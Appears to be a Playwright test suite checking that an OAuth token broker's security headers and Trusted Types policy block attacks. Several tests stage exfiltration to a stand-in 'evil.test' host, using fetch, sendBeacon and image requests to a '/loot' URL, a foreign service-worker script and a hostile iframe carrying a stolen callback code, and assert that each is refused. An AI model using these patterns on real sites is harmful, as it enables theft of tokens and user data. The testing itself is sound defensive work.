// What docs/security-headers.md recommends: each header does what is said of it, and the library works under all.
import type { Page } from '@playwright/test'
import { test as attackerTest } from './oauth/attacker.ts'
import { enterName, expect, logIn } from './oauth/test.ts'
import { Tab } from './tab.ts'

interface Violation {
  directive: string
  blocked: string
}

declare global {
  interface Window {
    violations: Violation[]
  }
}

const test = attackerTest.extend({
  options: { securityHeaders: true },
  server: async ({ server }, use) => {
    server.deploy({
      oauth: {
        scope: 'openid offline_access profile api files',
        parameters: { resource: server.provider.audience },
        resources: { [`${server.files.url}/`]: 'urn:demo:files' },
      },
      broker: { protect: ['/oauth/api/', `${server.files.url}/`] },
    })
    await use(server)
  },
  page: async ({ page }, use) => {
    await page.addInitScript(() => {
      window.violations = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        window.violations.push({ directive: effectiveDirective, blocked: blockedURI }),
      )
    })
    await use(page)
  },
})

/** Of the page's own making; its icon is a data: URL, which an app would not have. */
const violations = async (page: Page): Promise<Violation[]> =>
  (await page.evaluate(() => window.violations)).filter(({ blocked }) => blocked !== 'data')

/** Serves the page at `/` with another policy. */
async function withPolicy(page: Page, url: string, change: (policy: string) => string): Promise<void> {
  await page.route(`${url}/**`, async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback()
    const response = await route.fetch()
    const headers = response.headers()
    headers['content-security-policy'] = change(headers['content-security-policy'] ?? '')
    return route.fulfill({ response, headers })
  })
}

test('under all of them a login, calls to two APIs, tags, a popup and a logout work', async ({
  tab,
  server,
}) => {
  await logIn(tab, server)
  for (const url of ['/oauth/api/echo', `${server.files.url}/echo`])
    expect((await tab.call(url)).body).toMatchObject({ user: 'alice' })
  const width = await tab.page.evaluate(async () => {
    const image = new Image()
    image.src = '/oauth/api/image.png'
    await image.decode()
    return image.naturalWidth
  })
  expect(width).toBeGreaterThan(0)
  expect(await violations(tab.page)).toEqual([])

  server.provider.endSessions()
  expect((await tab.call('/oauth/api/echo')).status).toBe(401)
  const opening = tab.page.waitForEvent('popup')
  await tab.page.evaluate(() => window.login({ popup: true }))
  const popup = await opening
  const closing = popup.waitForEvent('close')
  await enterName(popup)
  await closing
  await expect.poll(() => tab.session()).toMatchObject({ status: 'active' })
  expect(await violations(tab.page)).toEqual([])

  await tab.page.goto(`${server.url}/auth/logout`)
  await tab.page.getByRole('button', { name: 'Log out' }).click()
  await tab.page.waitForURL(`${server.url}/`)
  await tab.ready()
  expect(await tab.session()).toEqual({ status: 'anonymous' })
})

test.describe('Trusted Types', () => {
  test("a URL needs the client's own policy to be listed", async ({ page, server }) => {
    await withPolicy(page, server.url, (policy) =>
      policy.replace('trusted-types sw-token-broker', 'trusted-types app'),
    )
    await page.goto(server.url)
    expect(await new Tab(page).outcome()).toBe('registration-failed')
  })

  test("a TrustedScriptURL of the app's policy is taken as it is", async ({ page, server }) => {
    await withPolicy(page, server.url, (policy) =>
      policy.replace('trusted-types sw-token-broker', 'trusted-types app'),
    )
    await new Tab(page).goto(`${server.url}/?own-policy`)
    expect(await violations(page)).toEqual([])
  })

  test('the policy lets through no script of another origin, and there is none called default', async ({
    tab,
    server,
    strangers,
  }) => {
    const refused = await tab.page.evaluate(
      ([own, other]) =>
        [own, other].map((url) => {
          try {
            Object.assign(document.createElement('script'), { src: url })
            return 'taken'
          } catch (error) {
            return error instanceof Error ? error.name : String(error)
          }
        }),
      [`${server.url}/oauth-page.js`, `http://evil.test:${strangers.port}/x.js`],
    )
    expect(refused).toEqual(['TypeError', 'TypeError'])
    await tab.page.goto(`${server.url}/?worker=http://evil.test:${strangers.port}/sw.js`)
    expect(await tab.outcome()).toBe('registration-failed')
    expect(strangers.heard).toEqual([])
  })
})

test("the page's policy: a script in the page sends nothing to a stranger", async ({
  tab,
  server,
  strangers,
}) => {
  await logIn(tab, server)
  const loot = `http://evil.test:${strangers.port}/loot`
  expect(await tab.call(loot)).toMatchObject({ error: expect.stringContaining('TypeError') })
  await tab.page.evaluate((src) => {
    new Image().src = src
    navigator.sendBeacon(src, 'x')
  }, loot)
  await expect
    .poll(async () => (await violations(tab.page)).map(({ directive }) => directive))
    .toEqual(expect.arrayContaining(['connect-src', 'img-src']))
  expect(strangers.heard).toEqual([])
})

test("the worker script's policy: the worker reaches the provider and the APIs, and nobody else", async ({
  context,
  tab,
  server,
  strangers,
}) => {
  await logIn(tab, server)
  const [worker] = context.serviceWorkers()
  const reached = await worker?.evaluate(
    (urls) => Promise.all(urls.map((url) => fetch(url, { mode: 'no-cors' }).then(Boolean, () => false))),
    [`${server.provider.url}/jwks`, `${server.files.url}/public`, `http://evil.test:${strangers.port}/loot`],
  )
  expect(reached).toEqual([true, true, false])
  expect(strangers.heard).toEqual([])
})

test('refusing other worker scripts: a script in the page can install none of its own', async ({
  page,
  server,
}) => {
  // Of what stands in the way of such a script, the server's refusal alone.
  await withPolicy(page, server.url, () => "default-src 'self'")
  await new Tab(page).goto(server.url)
  const outcome = await page.evaluate(() =>
    navigator.serviceWorker.register('/oauth-page.js', { scope: '/orders/', type: 'module' }).then(
      () => 'registered',
      (error: unknown) => String(error),
    ),
  )
  expect(outcome).toContain('403')
  expect(server.requests().find(({ path }) => path === '/sw.js')).toMatchObject({ status: 200 })
})

test('callback lockdown: what a frame of another site gets has neither code nor script', async ({
  page,
  server,
  strangers,
}) => {
  strangers.html = `<iframe src="${server.url}/auth/callback?code=stolen&state=x"></iframe>`
  await page.goto(`http://evil.test:${strangers.port}/page`)
  await expect
    .poll(() => server.requests().filter(({ path }) => path.startsWith('/auth/callback')))
    .toMatchObject([{ status: 403 }])
  expect(server.provider.stats.tokenRequests).toBe(0)
})

test('callback lockdown: the headers of the pages that a login passes through', async ({
  request,
  server,
}) => {
  for (const path of ['login', 'callback', 'logout']) {
    const url = `${server.url}/auth/${path}/`
    const headers = (await request.get(url, { headers: { 'Sec-Fetch-Dest': 'document' } })).headers()
    expect(headers).toMatchObject({
      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
      'x-frame-options': 'DENY',
      'cross-origin-opener-policy': 'same-origin',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-store',
    })
    for (const destination of ['iframe', 'embed', 'empty', 'script'])
      expect((await request.get(url, { headers: { 'Sec-Fetch-Dest': destination } })).status()).toBe(403)
  }
})

test('Cache-Control: no answer of the API or the token endpoint is kept', async ({ tab, server }) => {
  await logIn(tab, server)
  for (const url of ['/oauth/api/echo', '/oauth/api/public', `${server.files.url}/echo`])
    expect((await tab.call(url)).headers['cache-control']).toBe('no-store')
  const refused = await fetch(`${server.provider.url}/token`, { method: 'POST' })
  expect(refused.headers.get('cache-control')).toBe('no-store')
})
